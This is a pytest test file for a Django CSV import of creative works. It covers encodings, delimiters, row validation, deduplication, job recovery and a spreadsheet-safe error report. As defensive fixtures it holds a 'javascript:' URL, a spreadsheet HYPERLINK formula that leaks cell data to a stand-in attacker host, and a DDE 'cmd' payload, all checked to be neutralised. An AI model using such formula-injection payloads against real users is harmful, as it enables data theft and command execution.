"""CSV imports of real files written by the tests — each encoding and delimiter, bad rows,
quoted fields — run by the worker's code (Celery is eager here): valid rows are kept, each bad
row is reported with its number, column and message, re-importing duplicates nothing, and the
report is safe to open in a spreadsheet."""

import csv
import io
from datetime import timedelta
from http import HTTPStatus

import pytest
from django.core.files import File
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from tests import factories
from works import imports
from works.imports import csv_import
from works.models import Conflict, ImportJob, ImportRowError, Work, WorkIdentifier

HEADER = "title,kind,year,description,co_creators,isbn,isrc,iswc,doi,urls"
THIS_YEAR = timezone.now().year


def write_csv(path, rows, *, encoding="utf-8", delimiter=",", bom=False, newline="\r\n"):
    """Write ``rows`` (lists of cells) as a spreadsheet program would: quoted where needed."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=newline)
    writer.writerows(rows)
    data = buffer.getvalue().encode(encoding)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + data)
    return path


def columns(**cells):
    """One row in the template's column order."""
    return [cells.get(name, "") for name in HEADER.split(",")]


@pytest.fixture
def run_import(django_capture_on_commit_callbacks):
    """``run_import(owner, path)`` uploads the file as an import and lets the (eager) worker
    run it, as the view's on-commit enqueue does; returns the finished job."""

    def _run(owner, path, kind=None):
        with open(path, "rb") as handle, django_capture_on_commit_callbacks(execute=True):
            job = imports.job_create(owner=owner, upload=File(handle, name=path.name), kind=kind)
        job.refresh_from_db()
        return job

    return _run


def report(client, job) -> list[list[str]]:
    """The error report as the creator downloads it."""
    response = client.get(reverse("works:import-errors", args=[job.pk]))
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_valid_rows_are_kept_and_each_bad_row_is_reported(run_import, creator, client, tmp_path):
    path = write_csv(
        tmp_path / "catalogue.csv",
        [
            HEADER.split(","),
            columns(title="The Quiet Harbour", kind="book", year="2019", isbn="978-0-306-40615-7"),
            columns(title="", kind="book", year="2020"),
            columns(title="A Bust", kind="sculpture"),
            columns(title="Low Tide", kind="poem", year="19x9"),
            columns(title="Wrong Digit", kind="Book", isbn="978-0-306-40615-8"),
            columns(title="Bad Link", kind="article", urls="javascript:alert(1)"),
            columns(
                title="Songs, Vol. 2",
                kind="Sound recording",
                year="2021",
                description="Recorded live;\nmixed at home, in one take.",
                isrc="GB-AAA-21-00001",
                urls="https://alice.example/songs https://label.example/vol-2",
            ),
            columns(title="Two Faults", kind="", year="3000"),
        ],
    )
    job = run_import(creator, path)

    assert job.status == ImportJob.Status.DONE
    assert (job.total_rows, job.processed_rows) == (8, 8)
    assert (job.created_count, job.matched_count, job.error_count) == (2, 0, 6)
    harbour = Work.objects.get(owner=creator, title="The Quiet Harbour")
    assert (harbour.kind, harbour.year) == ("book", 2019)
    assert list(harbour.identifiers.values_list("scheme", "value")) == [("isbn", "9780306406157")]
    songs = Work.objects.get(owner=creator, title="Songs, Vol. 2")
    assert songs.kind == "recording"
    assert songs.description == "Recorded live;\nmixed at home, in one take."
    assert sorted(songs.identifiers.values_list("scheme", "value")) == [
        ("isrc", "GBAAA2100001"),
        ("url", "https://alice.example/songs"),
        ("url", "https://label.example/vol-2"),
    ]

    kinds = ", ".join(value for value, _ in Work.Kind.choices)
    client.force_login(creator)
    assert report(client, job) == [
        ["row", "column", "message"],
        ["3", "title", "Give the work a title."],
        ["4", "kind", f"“sculpture” is not a kind of work we know. Use one of: {kinds}."],
        [
            "5",
            "year",
            f"“19x9” is not a year between 1000 and {THIS_YEAR + 1}; leave it empty if you "
            "do not know it.",
        ],
        [
            "6",
            "isbn",
            "“978-0-306-40615-8”: This ISBN's check digit does not match: please check it for "
            "a typing mistake.",
        ],
        [
            "7",
            "urls",
            "“javascript:alert(1)”: Only web addresses starting with http:// or https:// can be "
            "registered.",
        ],
        ["9", "kind", f"Give the kind of work, one of: {kinds}."],
        [
            "9",
            "year",
            f"“3000” is not a year between 1000 and {THIS_YEAR + 1}; leave it empty if you "
            "do not know it.",
        ],
    ]
    # One audit row for the whole job, not one per work.
    events = AuditEvent.objects.filter(object_type="works.importjob", object_id=str(job.pk))
    assert [e.action for e in events] == ["import.done"]
    assert events[0].after["created"] == 2
    assert not AuditEvent.objects.filter(action="work.create").exists()
    assert not job.source  # the uploaded file is not kept once imported


TITLES = ["Café de l’Aube", "Le Pêcheur £5", "Naïve Song"]


@pytest.mark.parametrize(
    ("encoding", "bom", "delimiter"),
    [
        ("utf-8", False, ","),
        ("utf-8", False, ";"),
        ("utf-8", True, ","),
        ("utf-8", True, ";"),
        ("cp1252", False, ","),
        ("cp1252", False, ";"),
    ],
)
def test_each_encoding_and_delimiter_is_detected(
    run_import, creator, tmp_path, encoding, bom, delimiter
):
    rows = [["Title", "Kind", "Year", "Description", "URLs"]]
    rows += [
        [title, "poem", "2020", f"Notes; with {delimiter} inside", f"https://alice.example/{n}"]
        for n, title in enumerate(TITLES)
    ]
    path = write_csv(tmp_path / "works.csv", rows, encoding=encoding, delimiter=delimiter, bom=bom)
    job = run_import(creator, path)
    assert job.status == ImportJob.Status.DONE, job.error
    assert (job.created_count, job.error_count) == (3, 0)
    assert sorted(Work.objects.values_list("title", flat=True)) == sorted(TITLES)
    assert set(Work.objects.values_list("description", flat=True)) == {
        f"Notes; with {delimiter} inside"
    }


def test_windows_1252_after_a_long_ascii_start_is_still_read_right(run_import, creator, tmp_path):
    rows = [["title", "kind"]] + [[f"Plain title {n}", "photograph"] for n in range(3000)]
    rows.append(["Pêche à l’aube", "photograph"])  # past the 64 KB sample: ’ is 0x92
    path = write_csv(tmp_path / "late.csv", rows, encoding="cp1252")
    assert path.stat().st_size > 64 * 1024
    job = run_import(creator, path)
    assert job.status == ImportJob.Status.DONE, job.error
    assert job.created_count == 3001
    assert Work.objects.filter(title="Pêche à l’aube").exists()


def test_utf8_character_cut_by_the_sample_end_is_still_utf8(run_import, creator, tmp_path):
    body = "title,kind\r\nCrème,poem\r\n".encode()
    n = 0
    while len(body) < 64 * 1024 - 100:
        body += f"Poem {n},poem\r\n".encode()
        n += 1
    title = "Naïve " + "x" * (64 * 1024 - 1 - len(body) - len("Naïve ".encode())) + "é"
    path = tmp_path / "cut.csv"
    path.write_bytes(body + f"{title},poem\r\n".encode())
    # "é" is 2 bytes: the 64 KB sample ends between them.
    assert path.read_bytes()[64 * 1024 - 1 : 64 * 1024 + 1] == "é".encode()
    job = run_import(creator, path)
    assert job.status == ImportJob.Status.DONE, job.error
    assert job.created_count == n + 2
    assert Work.objects.filter(title="Crème").exists()
    assert Work.objects.filter(title=title).exists()


def test_reimporting_the_same_file_creates_no_duplicates(run_import, creator, tmp_path, settings):
    settings.WORKS_IMPORT_BATCH_SIZE = 3  # several batches, and repeats across them
    rows = [HEADER.split(",")]
    rows += [
        columns(title=f"Photo {n}", kind="photograph", year="2018", urls=f"https://a.example/{n}")
        for n in range(5)
    ]
    rows += [columns(title=f"Untitled {n}", kind="artwork", year="2001") for n in range(4)]
    path = write_csv(tmp_path / "again.csv", rows)

    first = run_import(creator, path)
    assert (first.created_count, first.matched_count, first.error_count) == (9, 0, 0)
    second = run_import(creator, path)
    assert second.status == ImportJob.Status.DONE
    assert (second.created_count, second.matched_count, second.processed_rows) == (0, 9, 9)
    assert Work.objects.filter(owner=creator).count() == 9
    assert WorkIdentifier.objects.count() == 5


def test_a_row_matches_an_existing_work_by_identifier_even_with_another_title(
    run_import, creator, work, tmp_path
):
    path = write_csv(
        tmp_path / "more.csv",
        [
            HEADER.split(","),
            # The ISBN-10 of the novel's ISBN-13, a new web address, another title.
            columns(
                title="Quiet Harbour (paperback)",
                kind="book",
                isbn="0-306-40615-2",
                urls="https://shop.example/harbour",
            ),
        ],
    )
    job = run_import(creator, path)
    assert (job.created_count, job.matched_count) == (0, 1)
    work.refresh_from_db()
    assert work.title == "The Quiet Harbour"  # a match changes nothing else
    assert sorted(work.identifiers.values_list("value", flat=True)) == [
        "9780306406157",
        "https://alice.example/harbour",
        "https://shop.example/harbour",
    ]


def test_rows_without_identifiers_match_on_title_kind_and_year(run_import, creator, tmp_path):
    factories.WorkFactory(owner=creator, title="Low Tide", kind="poem", year=2020)
    path = write_csv(
        tmp_path / "poems.csv",
        [
            ["title", "kind", "year"],
            ["Low Tide", "Poem", "2020"],  # the same work
            ["Low Tide", "poem", "2021"],  # another year: another work
            ["Low Tide", "composition", "2020"],  # another kind: another work
            ["High Tide", "poem", ""],
            ["High Tide", "POEM", ""],  # repeated within the file
        ],
    )
    job = run_import(creator, path)
    assert (job.created_count, job.matched_count) == (3, 2)
    assert Work.objects.filter(owner=creator, title="Low Tide").count() == 3
    assert Work.objects.filter(owner=creator, title="High Tide").count() == 1


def test_another_creators_work_is_never_matched_but_is_a_conflict(
    run_import, creator, other_creator, tmp_path
):
    theirs = factories.WorkFactory(owner=other_creator, title="Bass Lines", kind="recording")
    factories.WorkIdentifierFactory(work=theirs, scheme="isrc", value="GBAAA2100001")
    factories.WorkFactory(owner=other_creator, title="Low Tide", kind="poem", year=2020)
    path = write_csv(
        tmp_path / "mine.csv",
        [
            ["title", "kind", "year", "isrc"],
            ["Bass Lines", "recording", "", "GB-AAA-21-00001"],
            ["Low Tide", "poem", "2020", ""],
        ],
    )
    job = run_import(creator, path)
    assert (job.created_count, job.matched_count) == (2, 0)
    mine = Work.objects.get(owner=creator, title="Bass Lines")
    assert Conflict.objects.filter(work_a=theirs, work_b=mine).exists()


def test_unknown_columns_are_ignored_and_noted_in_the_report(run_import, creator, client, tmp_path):
    path = write_csv(
        tmp_path / "extra.csv",
        [["Title", "Kind", "Price", "Notes"], ["Harbour Song", "recording", "£3", "demo"]],
    )
    job = run_import(creator, path)
    assert job.status == ImportJob.Status.DONE
    assert (job.created_count, job.error_count) == (1, 0)
    client.force_login(creator)
    rows = report(client, job)
    assert [row[:2] for row in rows[1:]] == [["1", "Price"], ["1", "Notes"]]
    assert rows[1][2].startswith("This column is not one we import, so it was ignored.")


def test_a_file_without_a_title_column_fails_with_a_clear_message(run_import, creator, tmp_path):
    path = write_csv(tmp_path / "notitle.csv", [["name", "kind"], ["Harbour", "book"]])
    job = run_import(creator, path)
    assert job.status == ImportJob.Status.FAILED
    assert job.error.startswith("The first row has no “title” column.")
    assert "download the template" in job.error
    assert not Work.objects.exists()


def test_more_rows_than_allowed_are_refused_whole(run_import, creator, tmp_path, settings):
    settings.WORKS_IMPORT_MAX_ROWS = 5
    rows = [["title", "kind"]] + [[f"Work {n}", "poem"] for n in range(6)]
    job = run_import(creator, write_csv(tmp_path / "big.csv", rows))
    assert job.status == ImportJob.Status.FAILED
    assert job.error.startswith("This file has more than 5 rows: an import takes at most 5.")
    assert not Work.objects.exists()

    ok = run_import(creator, write_csv(tmp_path / "ok.csv", rows[:6]))
    assert (ok.status, ok.created_count) == (ImportJob.Status.DONE, 5)


def test_blank_lines_are_skipped_but_rows_keep_their_spreadsheet_number(
    run_import, creator, client, tmp_path
):
    path = tmp_path / "gaps.csv"
    path.write_text("title;kind\n\nOne;poem\n;;\nTwo;nonsense\n", encoding="utf-8")
    job = run_import(creator, path)
    assert (job.total_rows, job.created_count, job.error_count) == (2, 1, 1)
    client.force_login(creator)
    assert [row[:2] for row in report(client, job)[1:]] == [["5", "kind"]]


def test_formulas_are_stored_as_typed_and_made_safe_in_the_report(
    run_import, creator, client, tmp_path
):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    path = write_csv(
        tmp_path / "formula.csv",
        [
            ["title", "kind", "=cmd|' /C calc'!A0"],
            [formula, "artwork", "x"],
            ["'@SUM(1+1)", "artwork", ""],  # as the portal's own exports write "@SUM(1+1)"
            ["+44 20 7946 0000", "nonsense", ""],
        ],
    )
    job = run_import(creator, path)
    assert Work.objects.filter(title=formula).exists()
    assert Work.objects.filter(title="@SUM(1+1)").exists()
    client.force_login(creator)
    rows = report(client, job)
    assert rows[1][:2] == ["1", "'=cmd|' /C calc'!A0"]
    assert rows[2][:2] == ["4", "kind"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_job_killed_mid_import_is_resumed_by_the_sweep_without_duplicates(
    run_import, creator, tmp_path, settings, monkeypatch
):
    settings.WORKS_IMPORT_BATCH_SIZE = 2
    rows = [["title", "kind", "isbn"]]
    rows += [[f"Book {n}", "book", ""] for n in range(5)]
    path = write_csv(tmp_path / "killed.csv", rows)

    real_batch = csv_import._import_batch
    calls = []

    def dies_on_the_second_batch(*args):
        calls.append(1)
        if len(calls) == 2:
            raise SystemExit("worker killed")
        return real_batch(*args)

    monkeypatch.setattr(csv_import, "_import_batch", dies_on_the_second_batch)
    with pytest.raises(SystemExit):
        run_import(creator, path)
    job = ImportJob.objects.get()
    assert (job.status, job.processed_rows, job.created_count) == ("running", 2, 2)
    assert imports.job_run(job_id=job.pk) is None  # its lease still holds: nobody else runs it

    monkeypatch.setattr(csv_import, "_import_batch", real_batch)
    assert imports.jobs_sweep() == 0  # not expired yet
    ImportJob.objects.filter(pk=job.pk).update(lease_until=timezone.now() - timedelta(seconds=1))
    assert imports.jobs_sweep() == 1  # the lease expired: the worker is gone
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE
    assert (job.processed_rows, job.created_count, job.attempts) == (5, 5, 2)
    assert Work.objects.count() == 5


def test_a_queued_job_whose_message_was_lost_is_queued_again(
    creator, tmp_path, django_capture_on_commit_callbacks
):
    path = write_csv(tmp_path / "lost.csv", [["title", "kind"], ["Lost and found", "poem"]])
    with open(path, "rb") as handle, django_capture_on_commit_callbacks(execute=False):
        job = imports.job_create(owner=creator, upload=File(handle, name="lost.csv"))
    assert imports.jobs_sweep() == 0  # queued a moment ago: its message may be on its way
    assert imports.jobs_sweep(now=timezone.now() + timedelta(minutes=2)) == 1
    job.refresh_from_db()
    assert (job.status, job.created_count) == (ImportJob.Status.DONE, 1)


def test_a_finished_job_is_not_run_again(run_import, creator, tmp_path):
    job = run_import(creator, write_csv(tmp_path / "a.csv", [["title", "kind"], ["A", "poem"]]))
    assert imports.job_run(job_id=job.pk) is None
    assert ImportRowError.objects.count() == 0
    assert Work.objects.count() == 1


def test_a_job_whose_file_was_lost_fails_with_a_message(
    creator, tmp_path, django_capture_on_commit_callbacks
):
    path = write_csv(tmp_path / "gone.csv", [["title", "kind"], ["Gone", "poem"]])
    with open(path, "rb") as handle, django_capture_on_commit_callbacks(execute=False):
        job = imports.job_create(owner=creator, upload=File(handle, name="gone.csv"))
    job.source.storage.delete(job.source.name)
    job = imports.job_run(job_id=job.pk)
    assert job.status == ImportJob.Status.FAILED
    assert job.error.startswith("The uploaded file was lost")
